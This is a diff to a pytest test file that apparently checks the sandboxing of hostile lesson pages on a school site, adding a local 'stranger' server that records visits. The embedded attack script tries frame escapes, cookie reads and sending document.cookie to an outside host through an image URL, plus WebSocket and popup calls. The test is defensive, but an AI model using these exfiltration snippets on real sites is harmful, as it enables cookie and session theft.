@@ -4,6 +4,10 @@ from __future__ import annotations
 
 import shutil
 import subprocess
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from types import SimpleNamespace
+from typing import ClassVar
 
 import pytest
 
@@ -29,13 +33,13 @@ window.done = (async () => {
   await attempt("parent", () => parent.document.title);
   if (top !== window) await attempt("top", () => { top.location = "about:blank#gone"; return top.location.href; });
   await attempt("cookie", () => document.cookie);
-  await attempt("fetch elsewhere", () => fetch("http://127.0.0.1:9/steal"));
+  await attempt("fetch elsewhere", () => fetch("http://STRANGER/steal"));
   await attempt("fetch pages", () => fetch(document.referrer || location.origin.replace(/\\d+$/, PORT) + "/fr/"));
   await attempt("post", () => fetch("/c/", {method: "POST", body: "x"}).then(answer => answer.status));
-  await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = "http://127.0.0.1:9/i.png?" + document.cookie; }));
-  await attempt("popup", () => window.open("http://127.0.0.1:9/") === null ? Promise.reject(new Error()) : "opened");
+  await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = "http://STRANGER/i.png?" + document.cookie; }));
+  await attempt("popup", () => window.open("http://STRANGER/") === null ? Promise.reject(new Error()) : "opened");
   await attempt("worker", () => navigator.serviceWorker.register("worker.js"));
-  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("ws://127.0.0.1:9/"); s.onopen = yes; s.onerror = () => no(new Error()); }));
+  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("ws://STRANGER/"); s.onopen = yes; s.onerror = () => no(new Error()); }));
   document.getElementById("form").submit();
   return tried;
 })();
@@ -75,7 +79,30 @@ def film(target):
 
 
 @pytest.fixture(scope="session")
-def school(tmp_path_factory):
+def stranger():
+    """Another site, which lets everybody in and writes down who came; its ``host`` and ``visits``."""
+
+    class Door(BaseHTTPRequestHandler):
+        visits: ClassVar[list[str]] = []
+
+        def do_GET(self):
+            self.visits.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Door) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield SimpleNamespace(host=f"127.0.0.1:{server.server_port}", visits=Door.visits)
+        server.shutdown()
+
+
+@pytest.fixture(scope="session")
+def school(tmp_path_factory, stranger):
     """Addresses of a school's pages and of its lessons."""
     folder = tmp_path_factory.mktemp("school")
     school = School(folder / "box")
@@ -105,7 +132,7 @@ def school(tmp_path_factory):
     with serving(school.data) as (pages, lessons):
         port = pages.rpartition(":")[2]
         hostile = {
-            "index.html": page("Hostile", ATTACK.replace("PORT", port)),
+            "index.html": page("Hostile", ATTACK.replace("PORT", port).replace("STRANGER", stranger.host)),
             "worker.js": b"self.onfetch = () => {}",
         }
         school.add("hostile", hostile, title="Leçon hostile")
